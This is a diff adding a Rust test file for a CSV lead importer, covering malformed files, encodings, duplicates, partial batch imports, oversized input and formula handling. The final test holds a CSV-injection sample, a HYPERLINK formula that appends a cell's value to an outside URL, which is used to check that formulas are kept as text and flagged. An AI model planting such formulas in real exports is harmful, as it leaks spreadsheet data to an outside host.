@@ -1,0 +1,150 @@
+//! Whole files, as they come.
+
+use jooper_leads::{ImportError, Mapping, Target};
+
+use crate::support::World;
+
+#[tokio::test]
+async fn a_messy_file_is_imported_and_every_bad_row_says_why() {
+    let world = World::new();
+    let file = "\u{feff}E-Mail;Vorname;Nachname;Firma;Land;Umsatz;\r\n\
+        ada@müller.example;Ada;\"Müller; Söhne\";\"Müller \"\"& Co\"\"\";Deutschland;12,5;\r\n\
+        \r\n\
+        bad address;Bob;;;DE;;\r\n\
+        ADA@MÜLLER.example;Ada again;;;;;\r\n\
+        info@b.example;;;;Atlantis;;x\r\n\
+        eve@b.example;\"Eve\nMaria\";;;US;;;;\r\n\
+        short@b.example;x\r\n";
+    let report = world.import(file).await;
+    assert_eq!((report.rows, report.imported), (6, 3));
+    assert_eq!((report.duplicates, report.rejected_rows), (1, 2));
+    assert_eq!(report.unnamed_columns, [7]);
+    let rejects: Vec<_> = report.rejected.iter().map(|reject| reject.line).collect();
+    assert_eq!(rejects, [4, 9]);
+    assert_eq!(report.rejected[0].column.as_deref(), Some("E-Mail"));
+    assert_eq!(report.duplicate_rows[0].line, 5);
+    assert!(
+        report
+            .remarks
+            .iter()
+            .any(|r| r.line == 6 && r.column.as_deref() == Some("Land"))
+    );
+
+    let ada = &world.all().await[0];
+    assert_eq!(ada.email, "ada@xn--mller-kva.example");
+    assert_eq!(ada.last_name.as_deref(), Some("Müller; Söhne"));
+    assert_eq!(ada.company_name.as_deref(), Some("Müller \"& Co\""));
+    assert_eq!(ada.zone.as_deref(), Some("Europe/Berlin"));
+    let lead = world.leads.get(world.ws, ada.id).await.unwrap().unwrap();
+    assert_eq!(lead.profile.fields["umsatz"], "12,5");
+    assert_eq!(
+        lead.profile.source,
+        "fair.csv, line 2, imported 2026-11-23 09:05 UTC"
+    );
+    let fields = world.leads.fields(world.ws).await.unwrap();
+    assert!(fields.contains("umsatz") && fields.contains("first_name"));
+}
+
+#[tokio::test]
+async fn a_file_that_is_no_csv_file_stores_nothing_and_says_what_to_do() {
+    let world = World::new();
+    let utf16: Vec<u8> = "email\na@b.example\n"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    for (file, part) in [
+        (b"".as_slice(), "empty"),
+        (&utf16, "UTF-8"),
+        (b"PK\x03\x04....", "export it as CSV"),
+        (b"name;firm\nx;y\n", "\"name\", \"firm\""),
+        (b"email,name,EMAIL\n", "columns 1 and 3"),
+        (b"a@b.example,Ada\n", "names of columns"),
+        (b"email,n\xfcmber\n", "UTF-8"),
+        (b"email,\"name\n", "never closed"),
+    ] {
+        let error = world.try_import(file).await.unwrap_err();
+        let said = error.to_string();
+        assert!(said.contains(part), "{said}");
+        assert_eq!(error.report().map_or(0, |report| report.imported), 0);
+    }
+    assert!(world.emails().await.is_empty());
+    let mapping = Mapping::guess().column("Postfach", Target::Email);
+    let file = b"email\na@b.example\n".as_slice();
+    let error = world
+        .leads
+        .import_csv(world.ws, file, &mapping, "f")
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(error, ImportError::UnknownColumn { .. }),
+        "{error}"
+    );
+}
+
+fn many(rows: usize) -> String {
+    let mut file = "email,first_name\n".to_owned();
+    for n in 0..rows {
+        file.push_str(&format!("p{n}@b{}.example,P{n}\n", n % 50));
+    }
+    file
+}
+
+#[tokio::test]
+async fn a_file_that_breaks_in_the_middle_keeps_whole_batches_and_names_the_line() {
+    let world = World::new();
+    let broken = format!("{}x@b.example,\"never closed\ny@b.example,Y\n", many(700));
+    let error = world.try_import(broken.as_bytes()).await.unwrap_err();
+    assert!(
+        matches!(error, ImportError::Broken { line: 702, .. }),
+        "{error}"
+    );
+    assert!(
+        error
+            .to_string()
+            .contains("500 leads from the lines before"),
+        "{error}"
+    );
+    assert_eq!(world.emails().await.len(), 500);
+
+    let fixed = broken.replace("\"never closed", "closed");
+    let report = world.import(&fixed).await;
+    assert_eq!((report.imported, report.duplicates), (202, 500));
+    assert_eq!(world.emails().await.len(), 702);
+}
+
+#[tokio::test]
+async fn a_store_that_fails_keeps_whole_batches_and_the_import_can_be_repeated() {
+    let world = World::that_commits(1);
+    let error = world.try_import(many(1200).as_bytes()).await.unwrap_err();
+    assert!(matches!(error, ImportError::Stopped { .. }), "{error}");
+    assert_eq!(error.report().unwrap().imported, 500);
+    assert_eq!(world.emails().await.len(), 500);
+}
+
+#[tokio::test]
+async fn oversized_input_is_refused_with_its_line() {
+    let world = World::new();
+    let wide = format!(
+        "email,note\na@b.example,{}\nb@b.example,x\n",
+        "x".repeat(40_000)
+    );
+    let report = world.import(&wide).await;
+    assert_eq!((report.imported, report.rejected_rows), (1, 1));
+    assert_eq!(report.rejected[0].line, 2);
+    let huge = format!("email,note\na@b.example,\"{}\"\n", "x".repeat(50 << 20));
+    let error = world.try_import(huge.as_bytes()).await.unwrap_err();
+    assert!(
+        matches!(error, ImportError::Broken { line: 2, .. }),
+        "{error}"
+    );
+}
+
+#[tokio::test]
+async fn formulas_are_kept_as_text_and_remarked() {
+    let world = World::new();
+    let report = world
+        .import("email,note,phone\na@b.example,\"=HYPERLINK(\"\"http://x?\"\"&A1,\"\"ok\"\")\",+49 30\n")
+        .await;
+    assert_eq!(report.remarks.len(), 1);
+    assert_eq!(report.remarks[0].column.as_deref(), Some("note"));
+}
